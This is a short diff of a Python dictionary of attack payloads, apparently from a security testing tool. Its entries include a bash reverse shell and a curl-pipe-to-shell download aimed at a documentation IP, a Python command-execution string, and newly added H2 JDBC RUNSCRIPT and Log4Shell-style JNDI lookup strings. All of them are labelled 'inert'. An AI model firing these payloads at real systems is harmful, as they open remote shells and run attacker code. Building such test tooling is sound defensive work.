@@ -29,6 +29,8 @@ PROGRAMS = {
     "reverse-shell": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
     "download": "curl http://203.0.113.7/waag-inert | sh",
     "base64": base64.b64encode(PYTHON.encode()).decode(),
+    "database": "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://example.invalid/waag-inert.sql'",
+    "logger": "${jndi:ldap://example.invalid/waag-inert}",
     "command": "python3 -c 'import os; os.system(\"echo waag-inert\")'",
 }
 
